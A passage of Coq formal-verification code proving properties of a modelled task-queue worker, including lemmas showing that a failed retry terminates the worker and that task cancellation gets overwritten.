  match create_task_record default_task_config 1700000000000001 "t1" "demo" (Some "p") None 0
    (Some (JObj [("action", JStr "memory_search"); ("query", JStr "q")])) None None empty_tables with Ok (T, _) => T | Raise _ => empty_tables end.
Definition demo_runtime (faults : list fault) : runtime_state Z := mkRuntime (mkDb demo_tables faults) 1700000005000001 idle_health.
Definition run_worker (n : nat) (s : runtime_state Z) : runtime_state Z * result unit :=
  _agent_task_worker default_task_config (exec_demo false) default_messaging (fun _ => Ok 0) (fun j => Ok j) 1 n s.

(** The retry of a failed task runs inside the [except] block: when its own
    transaction fails, the exception ends the worker for good.  The task
    stays running until its lease expires. *)
Lemma failed_retry_ends_worker : exists s',
  run_worker 5 (demo_runtime [NoFault; NoFault; FailBefore (OperationalError "disk is full")])
  = (s', Raise (OperationalError "disk is full")) /\ workersRunning (rt_health s') = 0 /\
  match find_task "t1" (tables (rt_db s')) with Some t => t_status t = TRunning | None => False end.
Proof. eexists. split; [vm_compute; reflexivity|]. split; vm_compute; reflexivity. Qed.

Lemma demo_tables_ok : tables_ok demo_tables.
Proof.
  unfold demo_tables. destruct (create_task_record _ _ _ _ _ _ _ _ _ _ _) as [[T t]|e] eqn:E; [eapply create_ok; [exact E|]|];
    repeat split; constructor.
Qed.

Lemma worker_settles_task_witness : exists s' u,
  worker_round default_task_config (exec_demo false) default_messaging (fun _ => Ok 0) (fun j => Ok j) "internal-worker-1" (demo_runtime [])
  = (s', Ok tt) /\ find_task "t1" (tables (rt_db s')) = Some u /\
  (t_status u = TSucceeded \/ t_status u = Queued \/ t_status u = TFailed) /\ claimed (rt_health s') = 1.
Proof.
  destruct (worker_round default_task_config (exec_demo false) default_messaging (fun _ => Ok 0) (fun j => Ok j) "internal-worker-1"
    (demo_runtime [])) as [s' r] eqn:E.
  assert (r = Ok tt) as -> by (vm_compute in E; injection E as _ <-; reflexivity).
  pose proof (worker_settles_task default_task_config (exec_demo false) default_messaging (fun _ => Ok 0) (fun j => Ok j) "internal-worker-1"
    (demo_runtime []) s' (Ok tt) eq_refl demo_tables_ok) as Hs.
  cbn [rt_health] in Hs. specialize (fun H1 => Hs H1 E). cbv beta iota in Hs.
  destruct Hs as (_ & _ & _ & Hs); [vm_compute; intros t [<-|[]]; reflexivity|].
  destruct (claim default_task_config (exec_demo false) "internal-worker-1" (demo_runtime [])) as [s1 o] eqn:Ec.
  vm_compute in Ec. injection Ec as _ <-. cbn [snd] in Hs. destruct Hs as (u & Hu & Hst & Hc).
  exists s', u. split; [reflexivity|]. split; [exact Hu|]. split; [exact Hst|exact Hc].
Defined.

(** A cancellation of a running task does not last: the worker's report
    overwrites it, and a failed execution even queues the task again. *)
Lemma cancellation_is_overwritten C now now2 id error worker md T t : tables_ok T -> find_task id T = Some t ->
  t_attempts t < t_max_attempts t ->
  exists T1 u1, update_task_status now id "canceled" None None T = Ok (T1, Some u1) /\ t_status u1 = Canceled /\
    (exists T2 u2, requeue_task_for_retry C now2 id error worker T1 = Ok (T2, Some u2) /\ t_status u2 = Queued) /\
    (run_after_override md = Ok None ->
     exists T2 u2, update_task_status now2 id "succeeded" None md T1 = Ok (T2, Some u2) /\ t_status u2 = TSucceeded).
Proof.
  intros Hok Ht Ha.
  set (f := status_update (_task_iso_now now) Canceled None None (result_of_metadata None)).
  set (T1 := update_task id f (mkTaskEvent id (_task_iso_now now) "canceled" None None) T).
  assert (find_task id T1 = Some (f t)) as Hf by (by apply find_updated).
  assert (update_task_status now id "canceled" None None T = Ok (T1, Some (f t))) as E1.
  { unfold update_task_status. change (parse_task_status (lower (strip "canceled"))) with (Some Canceled). cbn iota beta zeta.
    cbn [run_after_override rbind]. rewrite Ht. f_equal. f_equal. exact Hf. }
  assert (tables_ok T1) as Hok1 by (eapply (task_step_ok C); [by eapply tstep_update|done]).
  exists T1, (f t). split; [done|]. split; [done|]. split.
  - unfold requeue_task_for_retry. rewrite Hf.
    assert ((task_max_attempts C (f t) <=? t_attempts (f t)) = false) as Hm.
    { apply Z.leb_gt. unfold task_max_attempts. cbn. destruct (Z.eqb_spec (t_max_attempts t) 0) as [E|E]; [|lia].
      pose proof (find_task_spec _ _ _ Ht) as [Hin _]. destruct Hok as (_ & Hall & _). rewrite List.Forall_forall in Hall.
      destruct (Hall t Hin) as (_ & Hb & _). lia. }
    cbv zeta. rewrite Hm. assert (forall e, keeps_id (retry_task C now2 e)) as Hk by (intros e x; unfold retry_task; by destruct (task_max_attempts C x <=? t_attempts x)).
    rewrite (find_updated _ _ _ _ (f t)) by done.
    do 2 eexists. split; [reflexivity|]. unfold retry_task. by rewrite Hm.
  - intros Hr. unfold update_task_status. change (parse_task_status (lower (strip "succeeded"))) with (Some TSucceeded).
    cbn iota beta zeta. rewrite Hr. cbn [rbind]. rewrite Hf. rewrite (find_updated _ _ _ _ (f t)) by done. by do 2 eexists.
Qed.
